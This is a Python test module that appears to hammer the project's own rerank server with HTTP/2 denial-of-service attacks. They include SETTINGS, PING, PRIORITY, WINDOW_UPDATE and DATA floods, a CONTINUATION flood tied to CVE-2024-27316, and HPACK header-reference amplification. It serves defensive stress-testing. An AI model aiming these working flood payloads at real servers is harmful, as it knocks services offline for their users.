"""Floods of frames of HTTP/2, each over one connection after the other."""

import struct
from collections.abc import Callable, Iterator

from rerank.v2 import rerank_pb2 as pb

from tests.hostile.attack import Target, attack
from tests.hostile.honest import MODEL
from tests.hostile.peer import (
    ACK,
    CONTINUATION,
    DATA,
    HEADERS,
    LAST,
    PING,
    PRIORITY,
    SETTINGS,
    WHOLE,
    WINDOW,
    Peer,
    again,
    fields,
    literal,
    prefixed,
)
from tests.soak.http2 import frame

_AT_ONCE = 500  # Frames in a piece that is sent.


def _flood(target: Target, content: Callable[[int], bytes]) -> int:
    """Send without end what `content` returns for a stream that is open and waits for its message."""

    def frames(peer: Peer) -> Iterator[None]:
        stream = peer.open(fields())
        piece = content(stream) * _AT_ONCE
        while True:
            peer.send(piece)
            yield

    return again(target, frames)


@attack()
def settings_flood(target: Target) -> int:
    """Change the settings, which the server has to acknowledge each time."""
    return _flood(target, lambda _: frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 65_535, 1, 4096)))


@attack()
def settings_acknowledged(target: Target) -> int:
    """Acknowledge settings that nobody sent."""
    return _flood(target, lambda _: frame(SETTINGS, ACK, 0))


@attack()
def ping_flood(target: Target) -> int:
    """Send pings, which the server has to answer each time."""
    return _flood(target, lambda _: frame(PING, 0, 0, b"01234567"))


@attack()
def priority_flood(target: Target) -> int:
    """Change the priority of a stream, and of streams that are not open."""

    def content(stream: int) -> bytes:
        idle = (frame(PRIORITY, 0, n, struct.pack(">IB", n + 2, 16)) for n in range(101, 111, 2))
        return frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) + b"".join(idle)

    return _flood(target, content)


@attack()
def window_update_flood(target: Target) -> int:
    """Open the window of the connection and of a stream a byte at a time."""
    one = struct.pack(">I", 1)
    return _flood(target, lambda stream: frame(WINDOW, 0, 0, one) + frame(WINDOW, 0, stream, one))


@attack()
def empty_data_flood(target: Target) -> int:
    """Send DATA frames of no bytes, which no flow control holds back."""
    return _flood(target, lambda stream: frame(DATA, 0, stream))


@attack()
def padded_data_flood(target: Target) -> int:
    """Send DATA frames of padding only."""

    def frames(peer: Peer) -> Iterator[None]:
        stream = peer.open(fields())
        piece = frame(DATA, 8, stream, b"\xff" + bytes(255))
        while True:
            while min(peer.credit[0], peer.credit.get(stream, 0)) < 256:
                peer.read(0.1)
            peer.credit[0] -= 256
            peer.credit[stream] -= 256
            peer.send(piece)
            yield

    return again(target, frames)


@attack()
def unknown_frames(target: Target) -> int:
    """Send frames of a kind that nobody knows, which have to be passed over."""
    return _flood(target, lambda stream: frame(0xBB, 0, stream, bytes(100)))


@attack()
def continuation_flood(target: Target) -> int:
    """Continue the headers of a call without end, CVE-2024-27316."""

    def frames(peer: Peer) -> Iterator[None]:
        number = 0
        peer.send(frame(HEADERS, 0, 1, fields()))
        while True:
            number += 1
            peer.send(frame(CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 4000)))
            yield

    return again(target, frames)


@attack()
def empty_continuation_flood(target: Target) -> int:
    """Continue the headers of a call with frames of no bytes."""

    def frames(peer: Peer) -> Iterator[None]:
        peer.send(frame(HEADERS, 0, 1, fields()))
        while True:
            peer.send(frame(CONTINUATION, 0, 1) * _AT_ONCE)
            yield

    return again(target, frames)


@attack()
def empty_headers_flood(target: Target) -> int:
    """Open calls without any header."""

    def frames(peer: Peer) -> Iterator[None]:
        while True:
            piece = b""
            for _ in range(_AT_ONCE):
                peer.streams += 2
                piece += frame(HEADERS, WHOLE | LAST, peer.streams)
            peer.send(piece)
            yield

    return again(target, frames)


@attack()
def trailers_flood(target: Target) -> int:
    """Send headers again and again on one stream."""
    return _flood(target, lambda stream: frame(HEADERS, WHOLE, stream, literal("x", "y")))


def _references(entry: int, times: int) -> Callable[[Peer], Iterator[None]]:
    """Return an attack that names one table entry of this size so often in each call."""

    def frames(peer: Peer) -> Iterator[None]:
        peer.open(fields() + literal("x", b"v" * entry, index=True), last=True)
        while True:
            peer.open(fields() + b"\xbe" * times, last=True)  # 62, the newest entry of the table.
            yield

    return frames


@attack()
def hpack_references(target: Target) -> int:
    """Refer 4,000 times to a table entry of 3,900 bytes in each call: 15 MB of headers in 4 KB."""
    return again(target, _references(3900, 4000))


@attack()
def hpack_references_below_the_limit(target: Target) -> int:
    """Refer 10 times to a table entry of 1,500 bytes in each call, which is within any limit of a call."""
    return again(target, _references(1500, 10))


@attack()
def hpack_table(target: Target) -> int:
    """Change the size of the header table, and write to all of it, with each call."""

    def frames(peer: Peer) -> Iterator[None]:
        resized = b"\x20\x3f\xe1\x1f"  # To 0 and back to 4,096.
        while True:
            peer.open(resized + fields() + literal("x", b"v" * 3900, index=True), last=True)
            yield

    return again(target, frames)


@attack()
def zero_window(target: Target) -> int:
    """Make calls whose answers may not be sent."""

    def calls(peer: Peer) -> Iterator[None]:
        message = prefixed(pb.RerankRequest(model=MODEL, query="q", documents=["d"] * 3).SerializeToString())
        while True:
            peer.call(fields(), message)
            yield
            peer.read(0)

    return again(target, calls, window=0)
